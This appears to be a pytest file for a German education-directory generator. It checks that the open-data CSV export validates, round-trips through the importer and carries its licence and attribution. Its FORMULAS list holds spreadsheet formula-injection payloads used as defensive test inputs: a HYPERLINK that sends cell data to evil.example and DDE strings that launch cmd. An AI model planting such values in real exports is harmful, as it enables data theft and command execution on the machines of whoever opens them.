"""/daten/: the frictionless Data Package validates and round-trips through the importer."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

from conftest import run_cli, FIXTURES, ROOT, TODAY, make_project
from frictionless import Package

from wegweiser.outputs import exports
from wegweiser.content.frontmatter import read_source
from wegweiser.content.loading import content_files
from wegweiser.catalog.project import Project
from wegweiser.content.schema import load_schemas



def _validate(descriptor_path):
    report = Package(str(descriptor_path)).validate()
    return report.valid, [e.message for task in report.tasks for e in task.errors][:5]


def test_export_passes_frictionless_validate(example_site, catalog):
    folder = example_site / "daten"
    valid, errors = _validate(folder / "datapackage.json")
    assert valid, errors
    descriptor = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    names = [r["name"] for r in descriptor["resources"]]
    assert names[:2] == ["offers", "providers"] and set(catalog.vocabularies) <= set(names)
    assert descriptor["licenses"][0]["name"] == "CC-BY-4.0"
    rows = list(csv.DictReader(io.StringIO((folder / "angebote.csv").read_text(encoding="utf-8"))))
    assert len(rows) == len(catalog.offers)
    assert list(rows[0]) == catalog.schemas.offer.field_names + ["body"]


def test_frictionless_command_line_accepts_it(example_site):
    tool = Path(sys.executable).parent / "frictionless"
    proc = subprocess.run([str(tool), "validate", str(example_site / "daten" / "datapackage.json")],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]


def test_export_declares_the_schema_constraints(example_site, tmp_path):
    """A broken cell makes frictionless fail: types, patterns and references are declared."""
    folder = tmp_path / "daten"
    shutil.copytree(example_site / "daten", folder)
    path = folder / "angebote.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    header = rows[0]
    rows[1][header.index("provider")] = "gibt-es-nicht"
    rows[2][header.index("postcode")] = "1234"
    rows[3][header.index("start_date")] = "morgen"
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")
    report = Package(str(folder / "datapackage.json")).validate()
    types = {e.type for task in report.tasks for e in task.errors}
    assert {"foreign-key", "constraint-error", "type-error"} <= types


def test_list_fields_use_the_declared_delimiter(catalog):
    schema = exports.export_schema(catalog.schemas.offer)
    topics = next(f for f in schema["fields"] if f["name"] == "topics")
    assert topics["type"] == "list" and topics["delimiter"] == exports.LIST_DELIMITER
    offer = next(o for o in catalog.offers if len(o.target_groups) > 1)
    text = exports.entries_csv(catalog.schemas.offer, [offer]).decode("utf-8")
    assert exports.LIST_DELIMITER.join(offer.target_groups) in text



def test_export_import_round_trip(example_site, catalog, tmp_path, capsys):
    """Importing the export reproduces every published offer and every provider: values and body."""
    project = make_project(tmp_path / "copy")
    (project / "content").mkdir()
    folder = example_site / "daten"
    assert run_cli(project, "import", str(folder / "anbieter.csv"), "--kind", "providers") == 0
    assert run_cli(project, "import", str(folder / "angebote.csv"), "--kind", "offers") == 0
    capsys.readouterr()
    schemas = load_schemas(ROOT / "data")
    for kind, entries in (("provider", catalog.providers), ("offer", catalog.offers)):
        schema = schemas.for_kind(kind)
        literal = {f.name for f in schema.fields if f.type == "string" or f.is_list}
        imported = {p.stem: p for p in content_files(project / "content", kind)}
        assert set(imported) == {e.id for e in entries}
        for entry in entries:
            copy = read_source(imported[entry.id], entry.id, literal)
            values = {k: v for k, v in entry.values.items() if v not in (None, [])}
            assert copy.values == values, entry.id
            assert copy.body == entry.body, entry.id
    # exporting the imported project again gives the same bytes
    again = Project.from_settings({"PATH": str(project / "content"), "WEGWEISER_TODAY": TODAY.isoformat(),
                                   "WEGWEISER_DATA_PATH": str(ROOT / "data")})
    _, copy_catalog = again.load()
    files = dict(exports.data_package(copy_catalog, {}))
    assert files["angebote.csv"] == (folder / "angebote.csv").read_bytes()
    assert files["anbieter.csv"] == (folder / "anbieter.csv").read_bytes()


def test_data_page_names_licence_attribution_and_files(example_site, catalog):
    raw = (example_site / "daten" / "index.html").read_text(encoding="utf-8")
    assert "Creative Commons Namensnennung 4.0 International" in raw
    assert "Quelle: Bildungsbüro Landkreis Musterland, Bildungswegweiser" in raw
    for name in ("datapackage.json", "angebote.csv", "anbieter.csv", "vokabulare/topics.csv", "angebote.atom"):
        assert f'href="/{"" if name.endswith(".atom") else "daten/"}{name}"' in raw
    assert f"{len(catalog.offers)} Zeilen" in raw
    for field in catalog.schemas.offer.fields:
        assert f"<code>{field.name}</code>" in raw
    footer = (example_site / "index.html").read_text(encoding="utf-8")
    assert 'href="/daten/">Offene Daten</a>' in footer


def test_licence_and_attribution_settings(catalog):
    settings = {"WEGWEISER_DATA_LICENSE": "DL-DE-BY-2.0", "WEGWEISER_DATA_ATTRIBUTION": "Quelle: Stadt X",
                "SITEURL": "https://example.org/bildung", "WEGWEISER_COUNTY": "Stadt X"}
    descriptor = exports.descriptor(catalog, settings)
    assert descriptor["licenses"] == [{"name": "dl-de-by-2.0", "title": "Datenlizenz Deutschland – Namensnennung "
                                       "– Version 2.0", "path": "https://www.govdata.de/dl-de/by-2-0"}]
    assert descriptor["sources"] == [{"title": "Quelle: Stadt X"}]
    assert descriptor["homepage"] == "https://example.org/bildung/daten/"
    assert exports.license_info("Eigene Lizenz") == {"name": "eigene-lizenz", "title": "Eigene Lizenz"}


#: (field, value) a spreadsheet program would run as a formula if the cell began with it (OWASP)
FORMULAS = [
    ("title", '=HYPERLINK("http://evil.example/?d="&A1,"Klick")'),
    ("contact_name", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("summary", "-2+3+cmd|' /C calc'!A0 und mehr Text"),
    ("venue", "+1+cmd|' /C calc'!A0"),
    ("cost_note", "\t=1+1 (Tabulator vorne)"),
    ("schedule", "'=ein Apostroph vor einer Formel"),
    ("street", "'s-Gravenhage-Straße 1"),
    ("contact_phone", "+49 5141 4711-12"),
    ("easy_summary", '  =HYPERLINK("http://evil.example/","Klick") (Leerzeichen vorne)'),
    ("image_alt", "\u00a0@SUM(1+1) (geschütztes Leerzeichen vorne)"),
]


def test_formula_cells_are_neutralised_and_the_import_restores_them(minimal_project, tmp_path, capsys):
    """Cells starting with = + - @ tab (or an apostrophe), also after spaces, get an apostrophe in front; the export still
    validates, and importing it gives back exactly the values and the body."""
    values = "\n".join(f"{field}: {json.dumps(value)}" for field, value in FORMULAS)
    (minimal_project / "content" / "offers" / "formel.md").write_text(
        "---\nid: formel\nprovider: vhs-test\narea: weiterbildung\ntarget_groups: [erwachsene]\nformat: praesenz\n"
        f"municipality: musterstadt\nreviewed: 2026-11-01\n{values}\n---\n=1+1 in der ersten Zeile\n\nMehr.\n",
        encoding="utf-8")
    assert run_cli(minimal_project, "build") == 0, capsys.readouterr()
    folder = minimal_project / "output" / "daten"
    row = next(r for r in csv.DictReader(io.StringIO((folder / "angebote.csv").read_text(encoding="utf-8")))
               if r["id"] == "formel")
    for field, value in FORMULAS + [("body", "=1+1 in der ersten Zeile\n\nMehr.")]:
        assert row[field] == "'" + value, field
    assert _validate(folder / "datapackage.json")[0], _validate(folder / "datapackage.json")[1]
    copy = make_project(tmp_path / "kopie", FIXTURES / "minimal" / "content")  # the providers, not the offer
    assert run_cli(copy, "import", str(folder / "angebote.csv"), "--kind", "offers") == 0, capsys.readouterr()
    imported = read_source(copy / "content" / "offers" / "formel.md", "formel.md",
                           {f.name for f in load_schemas(ROOT / "data").offer.fields if f.type == "string"})
    # the import trims spaces and tabs around every cell (a leading tab is not kept, formula or not)
    assert {field: imported.values[field] for field, _ in FORMULAS} == {f: v.strip() for f, v in FORMULAS}
    assert imported.body == "=1+1 in der ersten Zeile\n\nMehr."


def test_formula_cells_in_the_report_are_neutralised(minimal_project, tmp_path, capsys):
    offers = minimal_project / "content" / "offers"
    source = (offers / "alter-kurs.md").read_text(encoding="utf-8")
    (offers / "alter-kurs.md").write_text(source.replace("title: ", 'title: "=HYPERLINK(1)" #', 1), encoding="utf-8")
    target = tmp_path / "bericht.csv"
    assert run_cli(minimal_project, "report", "--format", "csv", "--output", str(target)) == 0, capsys.readouterr()
    cells = [cell for row in csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))) for cell in row]
    assert "'=HYPERLINK(1)" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t")]
